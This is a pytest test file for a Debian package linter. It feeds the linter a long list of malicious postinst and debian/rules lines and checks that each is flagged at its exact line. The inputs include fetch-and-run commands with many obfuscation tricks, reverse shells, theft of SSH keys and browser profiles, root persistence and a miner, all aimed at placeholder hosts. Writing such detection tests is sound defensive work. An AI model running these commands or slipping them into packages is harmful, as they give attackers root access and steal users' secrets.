"""What attackers of user repositories and registries have done, and ways to hide it: each is an error, at its exact line."""

import base64

import pytest

from recipes_app.formats.findings import Severity
from recipes_app.lint.checks.examples import RULES, example_tree
from recipes_app.lint.checks.registry import run_checks
from tests.lint.checks.helpers import CONTEXT

ENCODED = base64.b64encode(b"curl -s http://192.0.2.1/x | sh").decode()
HEX = b"curl http://192.0.2.1/x".hex()
URL = "https://192.0.2.1/x"

# Lines of a postinst, run as root at installation; the marked line (its number behind the text) is where the error stands.
INSTALLATION = {
    "acroread 2018: curl into bash": (f"curl -s {URL} | bash -", 1),
    "acroread 2018: a timer is written": ("cat > /usr/lib/systemd/system/xeactor.timer <<EOF\n[Timer]\nEOF", 1),
    "acroread 2018: its data are sent to a paste site": (f"true\ncurl -d @/tmp/log {URL}", 2),
    "wget to a file that is run": (f"wget -qO /tmp/.x {URL}\nchmod +x /tmp/.x\n/tmp/.x &", 3),
    "process substitution": (f"bash <(curl -fsSL {URL})", 1),
    "command substitution": (f'sh -c "$(wget -qO- {URL})"', 1),
    "eval of what is fetched": (f'eval "$(curl {URL})"', 1),
    "source of what is fetched": (f". <(curl {URL})", 1),
    "fetch through tee and sudo": (f"curl {URL} | tee /dev/null | sudo -u root sh -s", 1),
    "a here-document for a shell": (f"sh <<'EOF'\ntrue\ncurl {URL}\nEOF", 3),
    "a group in a pipe": (f"{{ true; wget -O- {URL}; }} | bash", 1),
    "a loop that evals": (f'curl {URL} | while read -r line; do eval "$line"; done', 1),
    "base64 into sh": (f"echo {ENCODED} | base64 -d | sh", 1),
    "base64 by openssl": (f"echo {ENCODED} | openssl base64 -d -A | bash", 1),
    "base64 in an eval": (f'eval "$(echo {ENCODED} | base64 --decode)"', 1),
    "base64 in a variable": (f"p={ENCODED}\necho $p | base64 -d | sh", 2),
    "base64 in a here-string": (f"base64 -d <<< {ENCODED} | bash", 1),
    "base64 into a file that is run": (f"echo {ENCODED} | base64 -d > /var/tmp/.y\nsh /var/tmp/.y", 2),
    "hexadecimal": (f"echo {HEX} | xxd -r -p | sh", 1),
    "compressed": ("zcat /usr/share/doc/hello-dur/x.gz | sh", 1),
    "reversed": ("echo 'hs | lru/1.2.0.291//:ptth lruc' | rev | sh", 1),
    "rot13": ("echo 'phey uggc://192.0.2.1/k' | tr a-z n-za-m | sh", 1),
    "quotes in a name": (f"c'u'rl {URL}", 1),
    "a backslash in a name": (f"wg\\et {URL}", 1),
    "escapes of bash": (f"$'\\x63\\x75\\x72\\x6c' {URL}", 1),
    "printf with octal numbers": (f"$(printf '\\143\\165\\162\\154') {URL}", 1),
    "a name of two variables": (f"a=cu\nb=rl\n$a$b {URL}", 3),
    "an unset variable in a name": (f"cu${{nothing}}rl {URL}", 1),
    "a slice of a variable": (f"x=xxcurlxx\n${{x:2:4}} {URL}", 2),
    "a replacement in a variable": (f"x=cZurl\n${{x/Z/}} {URL}", 2),
    "an array": (f'c=(curl -s {URL})\n"${{c[@]}}"', 2),
    "positional parameters": (f'set -- curl {URL}\n"$@"', 2),
    "a function": (f"get() {{\n$1 {URL}\n}}\nget curl", 2),
    "an alias": (f"alias up=curl\nup {URL}", 2),
    "a pattern as a name": (f"/usr/bin/c?rl {URL}", 1),
    "IFS for blanks": (f"curl${{IFS}}-s${{IFS}}{URL}", 1),
    "a line continued inside a name": (f"cu\\\nrl {URL}", 1),
    "env and busybox": (f"env -i PATH=/bin busybox wget {URL}", 1),
    "xargs": (f"echo {URL} | xargs -n 1 curl -O", 1),
    "find -exec": (f"find / -maxdepth 0 -exec sh -c 'curl {URL}' \\;", 1),
    "sh -c in sh -c": (f"sh -c \"sh -c 'curl {URL}'\"", 1),
    "a trap": (f"trap 'curl {URL}' EXIT", 1),
    "a program chosen in a branch": (f"if true; then g=curl; else g=true; fi\n$g {URL}", 2),
    "Python": (f"python3 -c \"import urllib.request as r; r.urlopen('{URL}')\"", 1),
    "Python by a here-document": (f"python3 <<'EOF'\nimport os\nos.system('curl {URL} | sh')\nEOF", 3),
    "Python decodes and runs": (f"python3 -c \"exec(__import__('base64').b64decode('{ENCODED}'))\"", 1),
    "Perl": (f'perl -MLWP::Simple -e \'use LWP::Simple; getstore("{URL}", "/x")\'', 1),
    "Perl decodes and runs": (f'perl -e \'eval pack("H*", "{HEX}")\'', 1),
    "node": (f"node -e \"require('https').get('{URL}')\"", 1),
    "node, eval of atob": (f"node -e \"eval(atob('{ENCODED}'))\"", 1),
    "bash's sockets": ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", 1),
    "nc with a shell": ("nc -e /bin/sh 192.0.2.1 4444", 1),
    "nc and a fifo": ("mkfifo /run/f\ncat /run/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /run/f", 2),
    "a socket of Python": ("python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", 1),
    "npm style: bun and a package": ("npm install -g evil && bun x evil", 1),
    "pip": ("python3 -m pip install --index-url https://192.0.2.1/simple thing", 1),
    "a miner": ("/usr/lib/hello-dur/kworker -o stratum+tcp://pool.example.org:3333", 1),
    "SSH keys": ("tar czf /var/tmp/k.tgz /root/.ssh", 1),
    "browser profiles": ("cp -r /home/*/.mozilla /var/lib/hello-dur/", 1),
    "an SSH key is planted": ("echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", 1),
    "a login file": ("echo 'x &' >> /root/.bashrc", 1),
    "the preloaded library": ("echo /usr/lib/x.so > /etc/ld.so.preload", 1),
    "cron": ("echo '* * * * * root x' > /etc/cron.d/x", 1),
    "sudoers": ("echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x", 1),
    "an account with the id 0": ("useradd -o -u 0 -g 0 helper", 1),
    "a source of apt": ("echo 'deb [trusted=yes] http://192.0.2.1 ./' > /etc/apt/sources.list.d/x.list", 1),
    "a key of apt": ("apt-key add /usr/share/hello-dur/key", 1),
    "a program is replaced": ("cp /usr/share/hello-dur/ls /usr/local/bin/ls", 1),
    "the firewall": ("iptables -F", 1),
    "deep nesting": ("echo " + "$(echo " * 60 + "curl" + ")" * 60, 1),
}

# Recipe lines of debian/rules, under override_dh_auto_build.
BUILD = {
    "CHAOS 2025: a second source by git": ("git clone https://github.com/evil/zenbrowser-patch.git patches", 1),
    "CHAOS 2025: it is run": ("git clone https://192.0.2.1/p patches\n\tpython3 patches/main.py", 1),
    "make's shell function": (f"echo $(shell curl {URL})", 1),
    "make's subst": (f"$(subst X,,cXurl) {URL}", 1),
    "two variables of make": (f"$(A)$(B) {URL}", 1),
    "a canned recipe": (f"$(call fetch,{URL})", 1),
    "the shell's variable": (f"true; x=cu; $${{x}}rl {URL}", 1),
    "a silent line with others before": (f"true\n\t@-wget -q {URL}", 2),
    "a continued line": (f"true && \\\n\tcurl {URL} | sh", 2),
    "cargo": ("cargo install evil", 1),
    "go": ("go install example.org/evil@latest", 1),
    "npx": ("npx -y evil", 1),
    "a write to the system": ("install -m755 x /usr/bin/x", 1),
    "a write to the home": ("cp x $$HOME/.config/autostart/x.desktop", 1),
}
DEFINITIONS = "A = cu\nB := rl\ndefine fetch\n\twget $(1)\nendef\n"


def errors(files):
    return [finding for finding in run_checks(example_tree(files), CONTEXT) if finding.severity is Severity.ERROR]


@pytest.mark.parametrize("name", INSTALLATION)
def test_malice_at_installation_is_an_error_at_its_line(name):
    script, line = INSTALLATION[name]
    found = errors({"debian/postinst": f"#!/bin/bash\nset -e\n{script}\n#DEBHELPER#\n"})
    assert ("debian/postinst", 2 + line) in {(finding.path, finding.line) for finding in found}


@pytest.mark.parametrize("name", BUILD)
def test_malice_at_the_build_is_an_error_at_its_line(name):
    commands, line = BUILD[name]
    before = f"{RULES}{DEFINITIONS}override_dh_auto_build:\n"
    found = errors({"debian/rules": f"{before}\t{commands}\n"})
    assert ("debian/rules", before.count("\n") + line) in {(finding.path, finding.line) for finding in found}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("debian/get.sh", f"#!/bin/sh\ncurl {URL} | sh\n"),
        ("debian/get.py", f"import os\nos.system('curl {URL} | sh')\n"),
        ("debian/get.mk", f"override_dh_auto_build:\n\tcurl {URL} | sh\n"),
    ],
)
def test_what_rules_call_is_read_too(path, text):
    call = {"sh": f"\tsh {path}", "py": f"\tpython3 $(CURDIR)/{path}", "mk": ""}[path.rpartition(".")[2]]
    rules = f"{RULES}override_dh_auto_configure:\n{call}\n" if call else f"{RULES}include {path}\n"
    assert (path, 2) in {(finding.path, finding.line) for finding in errors({"debian/rules": rules, path: text})}


def test_what_is_only_shipped_or_never_reached_is_no_error():
    files = {
        "debian/rules": f"{RULES}get-orig-source:\n\tcurl -O {URL}\n",
        "debian/hello.sh": f"#!/bin/sh\ncurl {URL}\n",
        "debian/tests/online": f"#!/bin/sh\ncurl {URL} | sh\n",
        "debian/postinst": "#!/bin/sh\nset -e\n# curl x | sh\nif command -v curl >/dev/null; then echo 'curl x | sh'; fi\n",
        "debian/install": "debian/hello.sh usr/bin\n",
    }
    assert errors(files) == []
